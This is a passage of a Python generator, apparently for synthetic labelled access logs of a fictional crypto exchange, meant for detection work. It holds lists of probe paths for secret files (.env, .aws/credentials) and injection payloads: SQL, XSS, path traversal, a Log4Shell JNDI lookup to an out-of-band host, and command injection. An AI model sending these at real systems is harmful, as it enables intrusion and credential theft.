"""Labelled access log of a made-up brokerage and crypto exchange: mobile apps, a web terminal and a public trading API.

    exchange.py SEED OUTDIR      writes OUTDIR/events.ndjson and OUTDIR/labels.ndjson

Drawn per seed: brand and hosts, size, days, start, countries, diurnal and weekly shape (the market's own and the people's),
shares of callers and platforms, share of builds that can attest and how often attestation goes wrong in honest life, token
lifetime, style of the app's API (REST with drawn names, RPC, GraphQL for the web), shape of every kind of id, where trading keys
sign (query or header), which optional fields the gateway logs, carrier pools, offices, trading keys and partners, an app release,
an outage with its retry storm, an attestation provider's outage, a crash of the market, a token sale, and some fifty attacks.
Everything without a source in a comment is the author's judgement, not a measurement.
"""
import bisect
import copy
import datetime as dt
import hashlib
import ipaddress
import json
import math
import os
import random
import sys
import uuid

# country: utc offset, lat, lon, nets [(asn, mobile, v4 /16s, v6 prefix or "")]
LANDS = {
    "US": (-5, 39.8, -94.5, [(7922, 0, "73.158 98.210 24.61", "2601:645"), (701, 0, "71.163 108.28", "2600:4040"), (21928, 1, "172.58 172.56", "2607:fb90"), (20057, 1, "107.77", "2600:380")]),
    "DE": (1, 50.9, 10.2, [(3320, 0, "87.145 91.5 79.210", "2003:c0"), (3209, 0, "178.200 92.74", "2a02:908"), (6805, 1, "77.12 89.15", "2a02:3100")]),
    "GB": (0, 52.3, -1.2, [(2856, 0, "86.146 81.151", "2a00:23c4"), (5607, 0, "90.202", "2a02:c7f"), (12576, 1, "31.94", "2a01:4c8")]),
    "FR": (1, 46.8, 2.4, [(3215, 0, "90.3 86.210", "2a01:cb00"), (12322, 0, "82.64 88.160", "2a01:e0a"), (15557, 1, "92.184", "2a02:8400")]),
    "BR": (-3, -15.6, -49.2, [(28573, 0, "177.32 189.60", "2804:14c"), (26599, 1, "187.26 177.79", "2804:18"), (26615, 1, "179.240", "2804:214")]),
    "IN": (5.5, 21.1, 78.4, [(55836, 1, "49.36 157.34", "2409:4050"), (24560, 1, "122.161 106.215", "2401:4900"), (24309, 0, "203.194", "")]),
    "TR": (3, 39.1, 34.6, [(9121, 0, "88.230 85.100", ""), (16135, 1, "178.240", ""), (47331, 0, "78.180", "")]),
    "NG": (1, 8.9, 7.6, [(29465, 1, "105.112 197.210", ""), (36873, 1, "102.88", "")]),
    "VN": (7, 16.1, 107.2, [(7552, 1, "27.66 171.224", "2402:800"), (45899, 0, "113.160 14.160", "2001:ee0")]),
    "ID": (7, -4.2, 110.1, [(7713, 0, "36.72 125.160", "2001:448a"), (23693, 1, "114.120 182.0", "2404:c0")]),
    "KR": (9, 36.4, 127.8, [(4766, 0, "121.130 59.10", ""), (9644, 1, "223.38", "2001:2d8"), (3786, 0, "106.240", "")]),
    "JP": (9, 36.0, 138.1, [(4713, 0, "153.150 114.160", "2400:4050"), (17676, 1, "126.60", "2400:2410")]),
    "ES": (1, 40.0, -3.6, [(3352, 0, "83.40 79.150", "2a02:9130"), (12479, 1, "90.160", "2a0c:5a80")]),
    "PL": (1, 52.0, 19.3, [(5617, 0, "83.20 79.185", "2a01:1118"), (8374, 1, "37.47", "2a00:f41")]),
    "AR": (-3, -35.1, -62.3, [(7303, 0, "181.16 190.18", "2800:810"), (11664, 1, "170.51", "")]),
    "AU": (10, -33.1, 147.9, [(1221, 0, "1.120 101.160", "2001:8003"), (4804, 1, "49.180", "2405:6e00")]),
}
CLOUD = [(16509, "US", "3.120 18.184 54.238", "2600:1f18"), (16509, "JP", "13.112 52.68", "2406:da14"), (24940, "DE", "95.216 65.108 88.198", "2a01:4f8"),
         (16276, "FR", "51.75 54.36", "2001:41d0"), (14061, "NL", "167.99 134.209", "2604:a880"), (396982, "US", "34.89 35.198", ""),
         (8075, "NL", "20.50 40.68", ""), (20473, "US", "45.76 108.61", "2001:19f0"), (51167, "DE", "161.97 173.212", "2a02:c207"), (45102, "SG", "47.74 8.209", "")]
VPNS = [(9009, "NL", "146.70 185.206", ""), (212238, "US", "84.17 156.146", ""), (60068, "GB", "89.187 185.93", ""), (136787, "SG", "37.120", "")]
CENTRE = {"NL": (52.4, 4.9), "SG": (1.3, 103.8)} | {k: v[1:3] for k, v in LANDS.items()}
JA4 = {"chrome": "t13d1516h2_8daaf6152771_02713d6af862", "firefox": "t13d1715h2_5b57614c22b0_3d5424432f57", "safari": "t13d2014h2_a09f3c656075_14788d8d241b",
       "okhttp": "t13d1613h2_46e7e9700bed_45f260be83e2", "ios": "t13d2013h2_a09f3c656075_7f0f34a4126d", "python": "t13d1812h1_85036bcba153_b26ce05bbdd6",
       "go": "t13d1312h2_f57a46bbacb6_ab7e3b40a677", "curl": "t13d3112h2_e8f1e7e78f70_b26ce05bbdd6", "node": "t13d5911h1_a33745022dd6_1f22a2ca17c4",
       "java": "t13d1412h1_2a284e3b0c56_b4ac0dd1e7ba", "mitm": "t13d3012h1_1d37bd780c83_882d495ac381"}
TOOLS = [("python-requests/2.31.0", "python"), ("python-requests/2.32.3", "python"), ("python-urllib3/2.0.7", "python"), ("Python/3.11 aiohttp/3.9.5", "python"), ("ccxt/4.3.21", "node"),
         ("Go-http-client/2.0", "go"), ("Go-http-client/1.1", "go"), ("curl/8.5.0", "curl"), ("curl/7.88.1", "curl"), ("axios/1.6.8", "node"), ("node-fetch/1.0", "node"),
         ("okhttp/4.12.0", "okhttp"), ("Apache-HttpClient/5.3 (Java/17.0.10)", "java"), ("Java-http-client/21.0.2", "java"), ("python-httpx/0.27.0", "python")]
BROWSERS = [("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", "chrome", 5), ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", "chrome", 3),
            ("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", "firefox", 1), ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%d.0) Gecko/20100101 Firefox/%d.0", "firefox", 1),
            ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d Safari/605.1.15", "safari", 2), ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Mobile Safari/537.36", "chrome", 2)]
DROIDS = "SM-S918B SM-A546E SM-A146P Pixel_7a Pixel_8 2201117TY CPH2581 V2247 moto_g84 M2101K6G RMX3771 SM-G991U".split()
IPHONES = "iPhone12,1 iPhone13,2 iPhone14,5 iPhone15,2 iPhone15,4 iPhone16,1 iPad13,18".split()
COINS = "BTC ETH SOL XRP DOGE ADA AVAX LINK DOT LTC TRX MATIC ATOM UNI NEAR APT ARB OP SUI PEPE SHIB FIL INJ TIA AAPL TSLA NVDA MSFT".split()
NAMES = "anna ben carlos dmitri elif femi grace hugo ivan jun kemal lena marco ngoc olu priya quinn rosa sam tuan ursula victor wei yuki zeynep".split()

# op | group | method | alternatives of the path | ok | response bytes | ms | honest errors | query names; several to a line
OPS = """
cfg|app|GET|config;app/config;bootstrap|200|4200|9|304:.2|  login|auth|POST|auth/login;sessions;signin;oauth/token|200|950|190|401:.06,423:.002|
otp|auth|POST|auth/otp/verify;sessions/mfa;login/2fa|200|420|60|401:.07,429:.005|  otpsend|auth|POST|auth/otp/send;sessions/mfa/challenge;login/2fa/code|202|90|140|429:.01|
refresh|auth|POST|auth/refresh;sessions/refresh;oauth/refresh|200|800|22|401:.02|  logout|auth|DELETE|auth/session;sessions/current;signout|204|0|12||
forgot|auth|POST|auth/password/forgot;password-resets;recover|202|85|95||  reset|auth|POST|auth/password/reset;password-resets/confirm;recover/confirm|200|120|210|400:.1|
signup|auth|POST|users;accounts/register;signup|201|700|260|409:.05,422:.06|  kycup|app|POST|kyc/documents;verification/uploads;onboarding/documents|201|310|900|413:.01,422:.05|
kyc|app|GET|kyc/status;verification;onboarding/state|200|480|30||  me|app|GET|me;users/me;profile|200|1300|20|304:.1,401:.01|
user|app|GET|users/{uid}/settings;customers/{uid}/preferences;profiles/{uid}|200|900|24|403:.004,404:.004|
port|app|GET|accounts/{acct}/balances;portfolios/{acct};wallets/{acct}|200|3800|55|401:.008|
hist|app|GET|accounts/{acct}/transactions;portfolios/{acct}/activity;wallets/{acct}/ledger|200|9500|110||page,limit
quote|mkt|GET|markets/{sym}/ticker;quotes/{sym};instruments/{sym}/price|200|420|6|304:.15|  quotes|mkt|GET|markets;quotes;instruments/prices|200|14500|18|304:.12|symbols
book|mkt|GET|markets/{sym}/depth;orderbook/{sym};instruments/{sym}/book|200|5200|10|429:.004|limit
candles|mkt|GET|markets/{sym}/candles;charts/{sym};instruments/{sym}/history|200|21000|26||interval,from,to
search|mkt|GET|instruments/search;search;markets/search|200|1700|38|429:.006|q,limit  news|app|GET|markets/{sym}/news;feed/{sym};instruments/{sym}/stories|200|8800|45||page
watch|app|GET|watchlists;favourites;me/watchlist|200|1500|17|304:.2|  addwatch|app|PUT|watchlists/{sym};favourites/{sym};me/watchlist/{sym}|204|0|20||
order|app|POST|orders;trade/orders;trades|201|640|48|422:.04,400:.01,409:.004|  ord|app|GET|orders/{ord};trade/orders/{ord};trades/{ord}|200|700|20|404:.004,403:.002|
orders|app|GET|orders;trade/orders;trades|200|4200|40||status,limit  cancel|app|DELETE|orders/{ord};trade/orders/{ord};trades/{ord}|200|320|32|404:.02,409:.04|
preview|app|POST|orders/preview;trade/quote;trades/estimate|200|380|25|422:.05|  waddrs|app|GET|withdrawals/addresses;address-book;payout-destinations|200|1100|24||coin
addaddr|app|POST|withdrawals/addresses;address-book;payout-destinations|201|420|85|422:.06,403:.02|  withdraw|app|POST|withdrawals;payouts;wallet/withdraw|201|560|160|422:.05,403:.02|
wstat|app|GET|withdrawals/{wd};payouts/{wd};wallet/withdraw/{wd}|200|640|22||  dep|app|GET|deposits/{coin}/address;wallet/deposit/{coin};funding/{coin}|200|300|35||network
stmts|app|GET|statements;documents;reports|200|2600|45||year  stmt|app|GET|statements/{stmt};documents/{stmt};reports/{stmt}|200|48000|240|404:.01|
redeem|app|POST|vouchers/{code}/redeem;red-packets/{code}/claim;gift-cards/{code}/redeem|200|360|70|404:.2,409:.1,410:.2|
launch|app|GET|launchpad/{slug};token-sales/{slug};offerings/{slug}|200|5200|30|304:.1|
sub|app|POST|launchpad/{slug}/subscriptions;token-sales/{slug}/commitments;offerings/{slug}/bids|201|420|120|409:.08,422:.05,429:.05|
leads|app|GET|copy-trading/leaderboard;social/ranking;leaders|200|16000|85||page,sort  trader|app|GET|copy-trading/traders/{tr};social/traders/{tr};leaders/{tr}|200|6200|48|404:.01|
alert|app|POST|alerts;price-alerts;me/alerts|201|260|25||  notif|app|GET|notifications;inbox;me/messages|200|2900|28|304:.2|since  devreg|app|POST|devices;push/tokens;me/devices|201|190|30||
keys|app|GET|api-keys;me/api-keys;developer/keys|200|900|25||  mkkey|app|POST|api-keys;me/api-keys;developer/keys|201|420|80|403:.05|  tele|app|POST|telemetry;events/batch;collect|204|0|6||
stream|app|POST|stream/token;ws/tickets;realtime/session|200|310|14||  lookup|app|GET|users/lookup;recipients/search;contacts/resolve|200|180|35|404:.12|email
xfer|app|POST|transfers;p2p/payments;send|201|420|90|422:.04|  insight|app|GET|insights/{sym};ai/summary/{sym};markets/{sym}/sentiment|200|5200|130||
t.time|trade|GET|time;server-time|200|40|2||  t.info|trade|GET|exchangeInfo;instruments;symbols|200|185000|45|304:.05|  t.book|trade|GET|depth;book;orderbook|200|4600|7|429:.01|symbol,limit
t.trades|trade|GET|trades;public-trades;recentTrades|200|9800|9|429:.01|symbol,limit  t.klines|trade|GET|klines;candles;ohlc|200|31000|24|429:.01|symbol,interval,startTime,limit
t.tick|trade|GET|ticker/price;tickers;price|200|160|4|429:.004|symbol  t.acct|trade|GET|account;balances;wallet|200|3300|30|401:.002|
t.order|trade|POST|order;orders;order/new|200|520|14|400:.03,429:.01|symbol,side,type  t.cancel|trade|DELETE|order;orders;order/cancel|200|330|12|400:.05,429:.01|symbol,orderId
t.open|trade|GET|openOrders;orders/open;order/active|200|2500|16||symbol  t.fills|trade|GET|myTrades;fills;executions|200|11800|55||symbol,startTime,limit
t.wd|trade|POST|capital/withdraw;withdraw;wallet/withdraw|200|210|120|400:.05,403:.02|coin,address,amount
p.mk|part|POST|partners/accounts;broker/subaccounts;b2b/customers|201|620|190|409:.03,422:.04|
p.acc|part|GET|partners/accounts/{acct};broker/subaccounts/{acct};b2b/customers/{acct}|200|1900|35|404:.01|
p.list|part|GET|partners/accounts;broker/subaccounts;b2b/customers|200|24000|130||cursor,limit  p.ord|part|POST|partners/orders;broker/orders;b2b/trades|201|560|40|422:.03|
p.rep|part|GET|partners/reports/{day};broker/settlements/{day};b2b/files/{day}|200|260000|900|404:.06|
p.led|part|GET|partners/accounts/{acct}/ledger;broker/subaccounts/{acct}/transactions;b2b/customers/{acct}/tax-lots|200|36000|210|404:.01|from,to,page
hook.c|hook|POST|hooks/chain/{coin};callbacks/custody/{coin};webhooks/node/{coin}|200|15|18||  hook.p|hook|POST|hooks/payments;callbacks/bank;webhooks/cards|200|15|40|409:.03|
ad.find|adm|GET|admin/customers;backoffice/search;internal/users|200|6400|160||q  ad.cust|adm|GET|admin/customers/{uid};backoffice/users/{uid};internal/users/{uid}|200|7800|90|404:.01|
ad.led|adm|GET|admin/accounts/{acct}/ledger;backoffice/wallets/{acct};internal/accounts/{acct}|200|22000|180||page
ad.note|adm|POST|admin/customers/{uid}/notes;backoffice/users/{uid}/comments;internal/users/{uid}/notes|201|220|40||
ad.doc|adm|GET|admin/kyc/{stmt};backoffice/documents/{stmt};internal/kyc/{stmt}|200|390000|310||
ad.lim|adm|PUT|admin/customers/{uid}/limits;backoffice/users/{uid}/limits;internal/users/{uid}/limits|200|240|60||
ad.exp|adm|GET|admin/exports/{day};backoffice/reports/{day};internal/exports/{day}|200|1500000|2400||  w.home|www|GET|/;/en;/home|200|68000|35|304:.1|
w.price|www|GET|/price/{slug};/assets/{slug};/markets/{slug}|200|91000|60|404:.01,304:.1|  w.blog|www|GET|/blog/{slug};/learn/{slug};/academy/{slug}|200|74000|50|404:.02|
w.map|www|GET|/sitemap.xml;/sitemaps/index.xml;/sitemap_index.xml|200|190000|40||  w.rob|www|GET|/robots.txt|200|620|3||  hz|ops|GET|/healthz;/status;/api/health|200|24|2||
"""
RARE = ["/.env", "/.git/config", "/wp-login.php", "/actuator/env", "/api/swagger.json", "/v2/api-docs", "/phpinfo.php", "/server-status", "/.aws/credentials", "/backup.sql",
        "/console/", "/solr/admin/info/system", "/api/v1/debug/pprof", "/graphql/playground", "/config.json", "/admin/", "/metrics", "/debug/vars", "/cgi-bin/luci", "/old/login"]
LOADS = ["' OR '1'='1", "1;WAITFOR DELAY '0:0:5'--", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x.oob.li/a}", "{{7*7}}", "1 UNION SELECT null,null--", "%00", "|id", "$ne", "BTC'--", "x\" onload=\"a"]

class Caller:
    """Somebody who sends requests: a person on a device, a server, or a bot with one identity."""

    def __init__(self, name, platform, **kw):
        self.name, self.platform = name, platform
        self.ua = self.client = self.ver = self.user = self.email = self.device = self.sess = self.att = None
        self.stack, self.net, self.ip, self.land, self.token, self.token_end, self.v6pre = "", None, None, "US", "", 0.0, None
        self.acct = None
        self.orders = []
        self.__dict__.update(kw)

class World:
    def __init__(self, seed):
        self.r = r = random.Random(f"exchange-{seed}")
        self.events, self.count, self.holds, self.pools, self.label = [], {}, [], {}, ("benign", "", "")
        self.n = r.randint(64000, 93000)
        self.days = r.choice([2, 2.5, 3, 3.5, 4])
        self.t0 = dt.datetime(2024, 1, 1, tzinfo=dt.timezone.utc).timestamp() + r.randrange(600) * 86400 + r.randrange(24) * 3600 + r.randrange(3600)
        self.t1 = self.t0 + self.days * 86400
        self.brand = r.choice(["Marlin", "Kestrel", "Novabit", "Tradewind", "Orbex", "Halyard", "Quanta", "Bluefin"])
        self.code = self.brand[:2].lower() + r.choice(["x", "t", "", "q"])
        dom = self.brand.lower() + r.choice([".com", ".exchange", ".io", "trade.com"])
        one = r.random() < .3
        self.host = {g: f"{h}.{dom}" for g, h in (("auth", "id"), ("app", "gw"), ("mkt", "md"), ("trade", "api"), ("part", "partners"), ("hook", "hooks"), ("adm", "bo"), ("www", "www"), ("ops", "api"))}
        if one:
            self.host = {g: ("www." if g == "www" else "api.") + dom for g in self.host}
        self.lands = dict(zip(r.sample(list(LANDS), r.randint(6, 12)), [r.paretovariate(.8) for _ in range(12)]))
        self.style = r.choice(["rest", "rest", "rest-gql", "rpc", "rest-gql", "rest"])
        self.idkind = {e: r.choice(["seq", "seq", "uuid", "opaque", "snow"]) for e in ("uid", "acct", "ord", "stmt", "wd", "tr")}
        self.idbase = {e: r.randint(10 ** 5, 10 ** 8) for e in self.idkind}
        self.alt, self.pre = r.randrange(3), r.choice(["/api/v1", "/v2", "/api", "/v1", "/app/v3"])
        self.tpre, self.signed = r.choice(["/api/v3", "/v1", "/trading/v2", "/0"]), r.random() < .6
        self.case = r.choice(["kebab", "snake", "camel"])
        self.symfmt = r.choice(["{}USDT", "{}-USD", "{}_EUR", "{}USD", "{}-usdt"])
        self.ops = {}
        for line in OPS.split():
            op, g, m, paths, ok, size, ms, errs, q = line.split("|")
            alts = paths.split(";")
            # one company's routes hang together: mostly one alternative, sometimes another
            path = alts[min(self.alt if r.random() < .75 else r.randrange(3), len(alts) - 1)]
            errs = [(float(p) * r.uniform(.6, 1.5), int(s)) for s, p in (e.split(":") for e in errs.split(",") if e)]
            self.ops[op] = (g, m, self.route(op, g, path), int(ok), int(size) * r.lognormvariate(0, .35), int(ms) * r.lognormvariate(0, .3), errs, [x for x in q.split(",") if x])
        p = lambda x: r.random() < x
        self.log = {"url.query": p(.8), "http.route": p(.5), "server.address": p(.85), "user_agent.original": True, "http.request.id": p(.4), "http.request.size": p(.6), "http.response.size": p(.9),
                    "http.server.request.duration": p(.85), "user.id": p(.93), "session.id": p(.6), "device.id": p(.75), "api.client": p(.85), "login.subject": p(.85), "app.version": p(.7),
                    "geo.country": p(.8), "geo.location": p(.35), "network.asn": p(.7), "tls.client.ja4": p(.55), "attestation.code": p(.6), "attestation.issuer": p(.6), "attestation.token": p(.6),
                    "captcha.score": p(.4), "waf.score": p(.4)}
        # Play Integrity: a stricter verdict moves ~0.4 % of devices, installs not from Play ~2.5 % (developer.android.com/google/play/integrity/improvements)
        self.rooted, self.custom, self.clock = r.uniform(.004, .02), r.uniform(.004, .025), r.uniform(.005, .02)
        self.flaky, self.stale, self.ttl, self.once = r.uniform(.003, .015), r.uniform(.01, .06), r.choice([300, 900, 3600, 7200]), p(.2)
        self.says_none, self.noatt, self.droid = p(.7), r.uniform(.03, .25), r.uniform(.45, .8)
        self.subjects, self.vers = r.choice(["email", "email", "hash", "phone"]), [f"{r.randint(3, 9)}.{r.randint(1, 40)}.{r.randint(0, 6)}"]
        a, b, c = map(int, self.vers[0].split("."))
        self.vers = [self.vers[0], f"{a}.{b + 1}.0", f"{a}.{max(0, b - 3)}.{c}", f"{a - 1}.{b + 7}.1"]
        span = self.t1 - self.t0
        self.release = self.t0 + span * r.uniform(.25, .7)
        self.out0 = self.t0 + span * r.uniform(.1, .9)
        self.out1, self.outgroups, self.outp = self.out0 + r.uniform(300, 2400), r.choice([("app", "auth"), ("auth",), ("trade", "mkt"), ("app", "auth", "trade", "mkt", "part")]), r.uniform(.5, .95)
        self.att0 = self.t0 + span * r.uniform(.1, .9)
        self.att1, self.attplat, self.attst = self.att0 + r.uniform(1800, 14400), r.choice(["android", "ios"]), r.choice(["missing", "failed"])
        self.crash, self.sale = self.t0 + span * r.uniform(.1, .9), self.t0 + span * r.uniform(.2, .85)
        self.slug = r.choice(["zephyr", "lumen-ai", "tidal", "orchid", "vortex", "kite"]) + "-" + r.choice(["token", "network", "s2"])
        self.codes = [self.code_text() for _ in range(60)]
        self.asleep, self.weekend, self.market = r.uniform(.03, .2), r.uniform(.45, 1.0), r.uniform(.3, 1.4)
        self.clocks = {k: self.diurnal(LANDS[k][0]) for k in LANDS}
        # one public address stands for hundreds of subscribers (Cloudflare, "One IP address, many users", 2025); pool sizes are judgement
        self.cgn = {n[0]: [self.v4(n[2]) for _ in range(r.randint(3, 30))] for v in LANDS.values() for n in v[3] if n[1]}
        self.exits = [(n, self.v4(n[2])) for n in VPNS for _ in range(r.randint(2, 7))]
        home = self.land()
        self.hq = [(LANDS[home][3][0] + (home,), self.v4(LANDS[home][3][0][2])) for _ in range(2)]
        self.offices = [(LANDS[h][3][0] + (h,), self.v4(LANDS[h][3][0][2])) for h in (self.land() for _ in range(r.randint(2, 5)))]
        self.geo = {}

    # ---- names, ids, addresses
    def route(self, op, g, path):
        if g in ("www", "ops"):
            return path
        if self.style == "rpc" and g in ("app", "auth", "mkt"):
            return "/rpc/" + {"app": "Account", "auth": "Identity", "mkt": "Market"}[g] + "." + "".join(w.title() for w in path.replace("/", "-").split("-") if "{" not in w) + {"GET": "Get", "POST": "Create"}.get("GET" if op in ("port", "me") else "POST", "")
        if self.case != "kebab":
            path = "/".join(s if "{" in s else (s.replace("-", "_") if self.case == "snake" else s.split("-")[0] + "".join(x.title() for x in s.split("-")[1:])) for s in path.split("/"))
        return {"trade": self.tpre, "adm": "", "hook": "", "part": "/" + self.pre.split("/")[-1]}.get(g, self.pre) + "/" + path

    def land(self):
        return self.r.choices(list(self.lands), list(self.lands.values()))[0]

    def v4(self, pres):
        return f"{self.r.choice(pres.split())}.{self.r.randint(0, 255)}.{self.r.randint(1, 254)}"

    def v6(self, pre):
        tail = [f"{self.r.getrandbits(16):x}" for _ in range(8 - len(pre.split(":")))]
        return str(ipaddress.IPv6Address(pre + ":" + ":".join(tail)))

    def hexid(self, k=16):
        return f"{self.r.getrandbits(k * 4):0{k}x}"

    def newid(self, e, i=None):
        k, i = self.idkind[e], self.r.randrange(400000) if i is None else i
        if k == "seq":
            return str(self.idbase[e] + i)
        if k == "snow":
            return str((self.idbase[e] << 32) + i * 4194304 + (i * 7919) % 4096)
        h = hashlib.sha256(f"{self.idbase[e]}{e}{i}".encode()).hexdigest()
        return str(uuid.UUID(h[:12] + "4" + h[13:16] + "a" + h[17:32])) if k == "uuid" else {"uid": "u_", "acct": "ac_", "ord": "o_", "stmt": "doc_", "wd": "w_", "tr": "t_"}[e] + h[:14]

    def code_text(self):
        return "".join(self.r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(8))

    def mail(self):
        r = self.r
        if self.subjects == "phone":
            return f"+{r.choice([1, 44, 49, 55, 84, 90, 91])}{r.randint(10 ** 8, 10 ** 10 - 1)}"
        m = f"{r.choice(NAMES)}{r.choice(['.', '_', ''])}{r.choice(NAMES)[:r.randint(1, 6)]}{r.choice(['', r.randint(1, 99), r.randint(1960, 2006)])}@{r.choice(['gmail.com', 'gmail.com', 'outlook.com', 'yahoo.com', 'proton.me', 'icloud.com', 'web.de', 'mail.ru'])}"
        return m if self.subjects == "email" else hashlib.sha256(m.encode()).hexdigest()[:20]

    def ident(self, c):
        """Gives a caller an account of his own."""
        u = self.r.randrange(400000)
        c.user, c.acct, c.email = self.newid("uid", u), self.newid("acct", u), self.mail()
        return c

    def rare(self):
        return self.r.choice(RARE) + self.r.choice(["", "", "", "~", ".bak"])

    # ---- time
    def diurnal(self, tz):
        """Cumulative weight of each 15 minutes for people of one time zone."""
        out, acc = [], 0.0
        for i in range(int(self.days * 96)):
            t = self.t0 + i * 900
            h, d = (t / 3600 + tz) % 24, int((t / 3600 + tz) // 24 + 4) % 7  # the epoch was a Thursday; 0 = Sunday
            people = self.asleep + math.exp(-((h - 13) / 4.5) ** 2) + .9 * math.exp(-((h - 20.5) / 2.2) ** 2)
            # trading peaks 16:00-17:00 UTC on every continent (Rev. Quant. Fin. Acc. 64, 2024, econstor 10419/318572) and sags on weekends
            people += self.market * math.exp(-(((t / 3600) % 24 - 16.5) / 2) ** 2) * (self.asleep + .6 * (7 < h < 24))
            acc += people * (self.weekend if d in (0, 6) else 1.0)
            out.append(acc)
        return out

    def when(self, land):
        c, u = self.clocks[land], self.r.random()
        if u < .045:
            return min(self.crash + self.r.expovariate(1 / 2400), self.t1 - 60)
        return self.t0 + bisect.bisect(c, self.r.random() * c[-1]) * 900 + self.r.random() * 900

    def any(self):
        return self.t0 + self.r.random() * (self.t1 - self.t0)

    def think(self, mid=6, s=1.1):
        # think times are log-normal with a long tail; sessions part at about an hour (Halfaker et al., WWW 2015)
        return min(self.r.lognormvariate(math.log(mid), s), 1500)

    # ---- callers
    def settle(self, c, land=None, kind=None):
        """Gives a caller a network: home, carrier, cloud, vpn or office."""
        r = self.r
        c.land = land or c.land
        if kind == "cloud" or kind == "vpn" and r.random() < .15:  # some tunnel through a server of their own
            c.net = r.choice(CLOUD)
            c.net = (c.net[0], 0, c.net[2], c.net[3], c.net[1])
        elif kind == "vpn":
            n, c.ip = r.choice(self.exits)
            c.net = (n[0], 0, n[2], n[3], n[1])
            return c
        elif kind in ("hq", "office"):
            c.net, c.ip = r.choice(self.hq if kind == "hq" else self.offices)
            return c
        else:
            nets = [n for n in LANDS[c.land][3] if kind is None or n[1] == (kind == "carrier")] or LANDS[c.land][3]
            c.net = r.choice(nets) + (c.land,)
        if c.net[3] and r.random() < .4:
            c.v6pre = c.net[3] + ":" + ":".join(f"{r.getrandbits(16):x}" for _ in range(4 - len(c.net[3].split(":"))))
        self.move(c)
        return c

    def move(self, c):
        """A new address within the caller's network: carriers and v6 privacy move people, homes and servers stay."""
        if c.net[1] and not c.v6pre:
            c.ip = self.r.choice(self.cgn[c.net[0]])
        elif c.v6pre:
            c.ip = self.v6(c.v6pre)
        elif c.ip is None or self.r.random() < .03:
            c.ip = self.v4(c.net[2])

    def device(self, c, platform, ver=None):
        r = self.r
        c.platform, c.device = platform, self.hexid(16) if platform == "android" else str(uuid.UUID(int=r.getrandbits(128), version=4)).upper()
        c.ver = ver or r.choices(self.vers, [70, 0, 22, 8])[0]
        flavour = r.choice(["retail", "retail", "pro"])
        if platform == "android":
            if r.random() < self.noatt:  # builds for phones without Google's services, and the lite app, cannot attest
                kind = r.choice(["HMS", "Lite"])
                c.ua, c.client, c.att = f"{self.brand}-{kind}/{c.ver} (Android {r.randint(9, 13)}; {r.choice(['ELS-NX9', 'NOH-AN00', 'itel_A665L', 'TECNO_BG6'])}) okhttp/4.9.3", f"{self.code}-{kind.lower()}-{flavour}", "none"
            else:
                c.ua, c.client = f"{self.brand}-Android/{c.ver} (Android {r.randint(10, 15)}; {r.choice(DROIDS)}) okhttp/4.12.0", f"{self.code}-android-{flavour}"
                c.att = r.choices(["genuine", "rooted", "rom", "clock"], [1, self.rooted, self.custom, self.clock])[0]
            c.stack = "okhttp"
        else:
            c.ua, c.client = f"{self.brand}-iOS/{c.ver} ({r.choice(IPHONES)}; iOS {r.randint(16, 18)}.{r.randint(0, 6)}) CFNetwork/1496.0.7 Darwin/23.5.0", f"{self.code}-ios-{flavour}"
            c.att, c.stack = r.choices(["genuine", "rooted", "clock"], [1, self.rooted / 8, self.clock / 2])[0], "ios"
        return c

    def browser(self, c):
        b, stack, _ = self.r.choices(BROWSERS, [b[2] for b in BROWSERS])[0]
        v = self.r.choice([115, 122, 123, 124, 125]) if "Version" not in b else self.r.randint(0, 5)
        c.ua, c.stack, c.client, c.platform = b.replace("%d", str(v)), stack, f"{self.code}-web", "web"
        c.device = self.hexid(20) if self.r.random() < .6 else None
        return c

    def person(self, pool, size=150, platform=None, net=None, fresh=False):
        """One of a pool of people: few are very active, many rarely come."""
        r, ps = self.r, self.pools.setdefault(pool, [])
        k = int(size * r.random() ** 1.8)
        if k < len(ps) and not fresh:
            return ps[k]
        c = self.ident(Caller(f"{pool}-{len(ps)}", "web", land=self.land(), sess=self.hexid(24)))
        c.orders = [self.newid("ord") for _ in range(r.randint(1, 8))]
        platform = platform or ("android" if r.random() < self.droid else "ios")
        self.browser(c) if platform == "web" else self.device(c, platform)
        self.settle(c, kind=net or (None if platform == "web" or r.random() < .5 else "carrier"))
        if r.random() < (.5 if net == "office" else .03):
            c.stack = "mitm" if net == "office" else r.choice(["mitm", "go", "java", "node"])  # the office's proxy, a virus guard or an ad blocker opens TLS
        ps.append(c)
        return c

    def key(self, pool, size, net="cloud", ua=None, prefix="ak_"):
        """The holder of a trading or partner key."""
        ps = self.pools.setdefault(pool, [])
        if len(ps) < size:
            u, s = ua or self.r.choice(TOOLS)
            ps.append(self.settle(self.ident(Caller(f"{pool}-{len(ps)}", "server", ua=u, stack=s, client=prefix + self.hexid(12), land=self.land())), kind=net))
            return ps[-1]
        return self.r.choice(ps)

    # ---- one request
    def emit(self, c, t, op, status=None, bad=None, subj=None, path=None, auth=True, tool=False, **ids):
        """Logs one request and returns its status; without a status honest errors and the outage decide."""
        r = self.r
        if not self.t0 <= t < self.t1:
            return 0
        g, m, route, ok, size, ms, errs, names = self.ops[op]
        slow = 1.0
        if self.out0 <= t < self.out1 and g in self.outgroups and r.random() < self.outp:
            status, slow = r.choice([502, 503, 503, 504]), 8
        elif self.out1 <= t < self.out1 + 600 and g in self.outgroups and r.random() < .12:
            status, slow = r.choice([429, 503]), 3
        if status is None:
            status, u = ok, r.random()
            for p, s in errs:
                u -= p
                if u < 0:
                    status = s
                    break
            else:
                status = r.choice([500, 502, 504, 400, 403, 404, 405, 408, 429]) if r.random() < .004 else ok
        web_gql = self.style == "rest-gql" and c.client == f"{self.code}-web" and g in ("app", "mkt") and op != "tele"
        query, path, route = "", path or self.fill(route, c, ids), route if path is None else None
        if web_gql:
            path = "/graphql"
